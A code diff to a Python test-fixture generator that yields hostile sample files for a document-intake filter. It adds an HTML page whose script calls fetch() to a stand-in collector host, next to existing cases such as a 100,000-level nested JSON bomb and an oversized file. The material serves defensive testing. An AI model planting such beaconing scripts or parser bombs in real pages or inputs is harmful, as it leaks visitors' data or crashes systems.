@@ -34,7 +34,7 @@ class Held:
 
 
 def hostile(text: str) -> Iterator[Held]:
-    """Fifteen attacks; ``text`` is a harmless note for those whose danger is elsewhere."""
+    """Sixteen attacks; ``text`` is a harmless note for those whose danger is elsewhere."""
     note = text.encode()
     hostile_family, unreadable = ReasonFamily.HOSTILE, ReasonFamily.UNREADABLE
     signature = (ReasonCode.MALWARE_SIGNATURE, ReasonCode.MALWARE_FOUND)
@@ -65,6 +65,9 @@ def hostile(text: str) -> Iterator[Held]:
     yield Held(
         "Larger than allowed", "inbox/notes/large.txt", large, Kind.TEXT, hostile_family, (ReasonCode.TOO_LARGE,)
     )
+    page = b"<!doctype html><html><body><script>fetch('//collector.example')</script>" + note + b"</body></html>"
+    markup = (ReasonCode.MARKUP_UNSUPPORTED,)
+    yield Held("Web page with a script", "inbox/notes/page.html", page, Kind.MARKUP, hostile_family, markup)
     deep = b'{"resourceType":"Bundle","entry":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
     yield Held("JSON without end", "inbox/fhir/deep.json", deep, Kind.FHIR, hostile_family, (ReasonCode.JSON_DAMAGED,))
 
